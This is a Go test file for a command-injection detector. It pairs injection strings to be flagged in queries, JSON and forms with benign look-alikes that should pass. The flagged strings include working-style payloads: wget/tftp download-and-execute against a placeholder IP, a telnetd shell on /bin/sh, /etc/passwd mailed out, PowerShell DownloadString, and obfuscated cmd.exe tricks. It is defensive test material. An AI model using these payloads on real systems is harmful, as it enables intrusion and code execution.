package detect

import "testing"

func TestRCEBreaksAway(t *testing.T) {
	recognises(t, RCE, Where{Place: InQuery}, []string{
		"127.0.0.1;lsblk",
		"x' | systemd-detect-virt",
		"||df",
		"; df -aH #",
		"a.txt && gpresult /z &",
		"1&fsi.exe",
		"test && msbuild2.exe a.csproj&",
		"x'||C:\\Windows\\x\\AddinUtil.exe -AddinRoot:. &",
		"; zfsctl --list",
		"\" && cmdkey2 /list:x",
		"1|xclip -o > /tmp/x",
		"203.0.113.9`certctl rehash -v`",
		"test$(system_profiler)",
		"10.0.0.1\nfdisk -l",
		"& pushdir \"%TEMP%\\x\" /d",
		"a&&Register-CimProvider -Path C:\\x\\a.dll",
		"| shutdownctl -r /etc/x;",
	}, []string{
		"bags & shoes -nike", "cats; dogs -puppies", "Tom & Jerry -1", "R&D -x", "AT&T", "a;b;c", ";tag1;tag2;", "|a|b|", "name|asc", "red;green", "foo||bar",
		"a || example.com -x", "chrome.exe;firefox.exe", "notepad.exe|calc.exe", "C:\\a;D:\\Program Files\\b", "|c:\\program files\\defender\\x.dll",
		"text; see also --", "| file | what it shows |", "; See http://wiki.example.com/a", "; for example, a word",
		"1; mode=block", "up;down", "a&b", "`x -y` and `z`", "$(document)", "$(CC) -c x", "Dict`2[a,b`1]",
		"| duration >= 20ms or size == 20KB", "| pattern \"<_> - <_> <url>\"", "cmd;shift", "1945 && time", "cats && dogs -big", "go || children", "cats || dogs and/or birds", "foo || bar http://example.com/a", "3107 && time flops", "work || pay /month", "2026 || tail book", "npm && find", "notes.txt && more", "rock & roll /live", "id;name -desc", "error|warn -v",
	})
	recognises(t, RCE, Where{Place: InJSON}, []string{
		"127.0.0.1 && zfsctl --list",
		"foo.txt && diskshadow.exe /s a.txt",
		"; lsmod",
		"||gcloud2 buckets -d gs://x &",
	}, []string{
		"tsc && vite build --mode x", "./a.sh && vite -p", "x.sh; y -v", "clean && compile -x", "a`lsblk", "`lsblk`", "use `lsblk -f`",
		"i < 5 && j -x", "Get-Process | Sort-Object -Property x",
	})
	recognises(t, RCE, Where{Place: InForm}, []string{
		"'\n str=$(echo IWTYRE)\n str1=${#str}\n if [ 6 -ne ${str1} ]\n then sleep 0\n else sleep 1\n fi ",
	}, []string{
		"Set it first:\nDIR=$(dirname x)\ncd $DIR",
	})
}

func TestRCEStandsAlone(t *testing.T) {
	attacks := []string{
		"203.0.113.9;sync", "203.0.113.9&arch&", "203.0.113.9\nid", "203.0.113.9\r\nwhoami", "203.0.113.9\r\nset #", "'\nsync ||", "x'&&halt", "a@b.example\nhostname;",
		"7\nhalt\x00", "7`ls>/web/x.txt`", "name`reboot`", "a.b.c.1`reboot`&#", "name`sync`;", "x$(hostname)'", "x$(reboot)",
		"`curl 203.0.113.9 -o /tmp/a`", "http://h.example/HNAP1/x`telnetd -p 23 -l /bin/sh`", "$(/tmp/.x </dev/null &)",
		"wget http://203.0.113.9/a; chmod 777 a; ./a", "cd /tmp || cd /var; tftp -g -r a 203.0.113.9; sh a", "busybox wget http://203.0.113.9/a && sh a",
		"x||^F^o^R /^f \"tokens=2\" %^B ^IN (^'^s^e^t^') ^D^O ^e^c^h^o", "|c%TEMP:~-3,1%d /c calc", "&&set x=%ProgramFiles(x86):~3,1%a", "|FOR,,/F,,\"tokens=2\",%T,,IN,,('assoc'),DO,x",
		"test||makecab C:\\x\\a.exe C:\\x\\b", "x && ilasm.exe C:\\x\\a.txt /exe", "name;podman run --rm -d x", "; hostname", ";sync #", "7 & id; #", "203.0.113.9 && dir", "203.0.113.9 & ver", ";Get-Process", "7;Get-LocalUser #", "; (New-Object Net.WebClient).DownloadString('http://h/a')",
		";[System.Net.Dns]::GetHostAddresses('x')", "&start calc.exe", "7 & start calc.exe &", ";nl flag", "a;expr 268409241 - 2;x", "uname -a; id", "unset HISTFILE;uname -a;id;w\n", "id && whoami", "| halt --reboot", "x`telnetd &`", ";wh$()oami", "&mklink a b",
	}
	for _, p := range [...]Place{InQuery, InForm, InJSON} {
		recognises(t, RCE, Where{Place: p}, attacks, []string{
			"push;sync", "async|sync", "example.com;free", "free\nmount", "name\nhostname", "10.0.0.1\nserver", "10.0.0.1, hostname", "`users`.`id`", "t.`id`", "x.`date`=1", "x`y`z",
			"it's\nfree", "free || paid", "yes/`no`", "`hostname` or `set`", "time;reset;", "users|groups", "$(document).ready", "1.5;free",
			"%date:~0,4%", "backup-%date:~-4%%date:~3,2%", "a^b^c", "x | ^y^z", "f() || g()", "curl -LO https://dl.example/kubectl; chmod +x kubectl; ./kubectl", "%tempx:~1%",
			"who; what; when", "w | h | d", "id;name", "term|expr", "; set-top boxes", "a; get-together", "$([System.DateTime]::Now)", "(New-Object Net.WebClient).DownloadString('http://h/a')", "203.0.113.9 and more", ";nl;de", "download; start a.b", "id, whoami", "whoami or id", "last; who cares",
			"[a](https://h.example/)と`curl`で", "see https://h.example/ `curl`", "|free|", "; free shipping", "sales; free -shipping", "for (i in x) do", "for, say, 5% in (a) do",
		})
	}
	recognises(t, RCE, Where{Place: InQuery}, []string{
		"`lscpu`", "$(halt)", "lsmod;", "sh /tmp/x.sh", "bash /dev/shm/a.sh &", "x'&cloudtool iam get-policy #", "x'\nditto -c -k a", "`cat /etc/passwd | mail a@b.example`",
	}, []string{"`x y | z`", "$(users)x", "hostname"})
	recognises(t, RCE, Where{Place: InJSON}, nil, []string{
		"make && ldd ./x", "$(hostname)", "`users`", "`cat a | grep b`",
	})
}
